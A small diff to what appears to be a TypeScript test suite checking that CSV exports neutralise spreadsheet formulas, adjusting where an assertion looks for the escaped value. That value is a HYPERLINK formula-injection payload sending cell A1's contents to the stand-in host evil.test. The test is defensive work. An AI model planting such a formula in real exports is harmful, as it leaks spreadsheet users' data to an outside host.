@@ -90,7 +90,8 @@ describe('CSV formula neutralising', () => {
         if (!r.ok) return;
         const rows = parse(r.value as string) as string[][];
         expect(rows.flat().filter((c) => FORMULA_START.test(c))).toEqual([]);
-        if (by === 'project') expect(rows[0]).toContain("'=HYPERLINK(\"http://evil.test?\"&A1,\"click\")");
+        // Split by project, names and ids are cells of their own rows (the header names the columns).
+        if (by === 'project') expect(rows.flat()).toContain("'=HYPERLINK(\"http://evil.test?\"&A1,\"click\")");
       }
     } finally {
       api.close();
